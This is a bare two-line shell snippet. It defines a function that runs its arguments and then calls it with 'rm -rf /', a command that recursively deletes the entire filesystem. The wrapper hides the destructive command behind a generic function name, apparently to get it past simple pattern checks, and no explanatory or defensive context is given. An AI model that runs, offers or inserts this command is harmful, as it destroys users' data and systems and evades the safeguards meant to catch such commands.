f() { "$@"; }
f rm -rf /
